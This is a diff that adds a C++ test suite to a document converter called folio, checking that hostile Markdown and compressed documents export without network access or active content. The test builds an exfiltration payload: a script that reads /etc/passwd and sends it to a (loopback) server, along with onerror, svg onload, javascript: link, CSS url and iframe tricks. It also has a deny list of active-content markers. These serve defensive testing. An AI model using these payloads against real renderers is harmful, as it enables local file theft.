@@ -1,0 +1,122 @@
+#include "platform/foundation/Deflate.h"
+#include "platform/foundation/ZipArchive.h"
+#include "platform/graphics/Image.h"
+
+#include "export/HTMLToPDFTestSupport.h"
+#include "support/DocumentTestSupport.h"
+#include "support/LoopbackServer.h"
+
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <cstdlib>
+
+namespace folio {
+namespace {
+
+using namespace testing_support;
+
+std::string lowercased(std::string text)
+{
+    std::transform(text.begin(), text.end(), text.begin(), [](unsigned char c) { return std::tolower(c); });
+    return text;
+}
+
+// Documents sent by an attacker: a script that reads a local file and sends
+// it to a server, and every other way a page reaches out.
+class HostileDocument : public testing::TestWithParam<const char*> {
+protected:
+    static int folio(const std::string& arguments)
+    {
+        std::string command = "'" FOLIO_BINARY_DIR "/folio' " + arguments + " >/dev/null 2>&1";
+        int status = std::system(command.c_str());
+        return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
+    }
+
+    std::string payload() const
+    {
+        std::string server = m_server.url("");
+        return "<p>Visible words</p>"
+               "<script>var r=new XMLHttpRequest();r.open('GET','file:///etc/passwd',false);r.send();"
+               "document.body.innerText=r.responseText;var s=new XMLHttpRequest();s.open('GET','"
+            + server + "/xhr?'+encodeURIComponent(r.responseText),false);s.send();</script>"
+            + "<img src=\"" + server + "/img.png\"><img src=\"missing.png\" onerror=\"fetch('" + server
+            + "/onerror')\"><link rel=\"stylesheet\" href=\"" + server + "/sheet.css\">"
+            + "<style>body{background:url(" + server + "/background.png)}</style><p style=\"background:url(" + server
+            + "/inline.png)\">Styled</p><svg onload=\"fetch('" + server + "/svg')\"></svg>"
+            + "<a href=\"javascript:fetch('" + server + "/link')\">Linked words</a>"
+            + "<iframe src=\"file:///etc/passwd\"></iframe>";
+    }
+
+    std::string makeDocument()
+    {
+        std::string kind = GetParam();
+        std::string path = m_folder.path("hostile." + kind);
+        if (kind == "md") {
+            writeFile(path, "# Heading\n\n" + payload() + "\n");
+            return path;
+        }
+        std::string html = payload();
+        auto compressed = Deflate::compress(std::span(reinterpret_cast<const std::uint8_t*>(html.data()), html.size()));
+        EXPECT_TRUE(compressed.ok());
+        writeFile(path, std::string_view(reinterpret_cast<const char*>(compressed->bytes()), compressed->length()));
+        return path;
+    }
+
+    static void expectNothingActive(const std::string& text, const std::string& what)
+    {
+        std::string folded = lowercased(text);
+        for (const char* banned : {"<script", "onerror", "onload", "javascript:", "127.0.0.1", "<iframe", "root:"})
+            EXPECT_EQ(folded.find(banned), std::string::npos) << banned << " in " << what << ":\n" << text;
+    }
+
+    LoopbackServer m_server;
+    ScratchFolder m_folder{"hostile-document"};
+};
+
+TEST_P(HostileDocument, rendersWithoutReachingOut)
+{
+    ASSERT_TRUE(m_server.isListening());
+    std::string document = makeDocument();
+
+    std::string pdf = m_folder.path("out.pdf");
+    ASSERT_EQ(folio("export '" + document + "' --format pdf --output '" + pdf + "'"), 0);
+    std::string text = pdfText(pdf, 1);
+    EXPECT_NE(text.find("Visible words"), std::string::npos) << text;
+    EXPECT_EQ(text.find("root:"), std::string::npos) << text;
+
+    std::string png = m_folder.path("out.png");
+    ASSERT_EQ(folio("export '" + document + "' --format png --output '" + png + "'"), 0);
+    EXPECT_TRUE(Image::imageWithContentsOfFile(png).ok());
+    std::string preview = m_folder.path("preview.png");
+    ASSERT_EQ(folio("preview '" + document + "' --output '" + preview + "'"), 0);
+    EXPECT_TRUE(Image::imageWithContentsOfFile(preview).ok());
+
+    EXPECT_EQ(m_server.connectionCount(), 0);
+}
+
+TEST_P(HostileDocument, exportsHTMLAndBooksWithNothingActive)
+{
+    std::string document = makeDocument();
+    std::string html = m_folder.path("out.html");
+    ASSERT_EQ(folio("export '" + document + "' --format html --output '" + html + "'"), 0);
+    std::string page = readFile(html);
+    expectNothingActive(page, "the HTML");
+    EXPECT_NE(page.find("Visible words"), std::string::npos) << page;
+    EXPECT_NE(page.find("Linked words"), std::string::npos) << page;
+
+    std::string book = m_folder.path("out.epub");
+    ASSERT_EQ(folio("export '" + document + "' --format epub --output '" + book + "'"), 0);
+    auto archive = DKZipArchive::open(book);
+    ASSERT_TRUE(archive.ok()) << archive.error().message;
+    auto chapter = archive->readEntry("OPS/chapter-1.xhtml");
+    ASSERT_TRUE(chapter.ok()) << chapter.error().message;
+    std::string chapterText(reinterpret_cast<const char*>(chapter->bytes()), chapter->length());
+    expectNothingActive(chapterText, "the book");
+    EXPECT_NE(chapterText.find("Visible words"), std::string::npos) << chapterText;
+}
+
+INSTANTIATE_TEST_SUITE_P(Kinds, HostileDocument, testing::Values("md", "qvtext"));
+
+} // namespace
+} // namespace folio
